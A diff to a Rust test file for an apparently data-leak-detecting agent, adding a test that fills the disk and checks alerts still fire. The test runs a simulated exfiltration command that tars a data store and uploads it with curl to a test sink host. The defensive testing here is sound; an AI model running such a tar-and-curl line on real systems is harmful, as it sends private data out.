@@ -1,5 +1,10 @@
-//! An agent that is held up or lacks a right: nobody on the host is slowed, and the blindness is told.
+//! An agent that is held up, or lacks a right or room: nobody on the host is slowed, and what it sees or not is told.
 
+use std::fs::{self, File};
+use std::io::Write;
+use std::os::unix::fs::symlink;
+
+use jaga_tests::disk::Disk;
 use jaga_tests::leak::Leak;
 use jaga_tests::net::OUT;
 use jaga_tests::process::Unit;
@@ -35,6 +40,36 @@ fn a_stopped_agent_slows_nobody_and_loses_nothing() {
         scopes: &["external"],
     };
     leak.told(&mut agent, world.net.out.received() - before);
+}
+
+/// An alert is on disk before it is sent, and the disk has no room but what was kept.
+#[test]
+fn a_full_disk_holds_back_no_alert() {
+    let Some(world) = World::new("a_full_disk_holds_back_no_alert") else {
+        return;
+    };
+    let store = world.store("ekg", 150, MB);
+    let disk = Disk::new(world.folder(), "mkfs.ext4", 32 * MB);
+    let state = world.path("agent/state");
+    fs::remove_dir_all(&state).unwrap();
+    symlink(&disk.mounted, &state).unwrap();
+    let agent = world.agent(&[("ekg", &store)], "");
+    let mut fill = File::create(disk.mounted.join("fill")).unwrap();
+    while fill.write_all(&[7; 4096]).is_ok() {}
+    let unit = Unit::new("jagat-full.service");
+    let leak = format!(
+        "tar cf - {} 2>/dev/null | curl -sfT - http://{OUT}/x",
+        store.display()
+    );
+    unit.run(&leak, 60);
+    agent.alert("store-data-leaves", "firing", &[("store", "ekg")]);
+    agent.alert("store-data-leaves", "resolved", &[("store", "ekg")]);
+    drop(fill);
+    fs::remove_file(disk.mounted.join("fill")).unwrap();
+    // Room again: it is kept for the next time.
+    until("the reserve to be back", 20, || {
+        disk.mounted.join("jaga.reserve").exists().then_some(())
+    });
 }
 
 #[test]
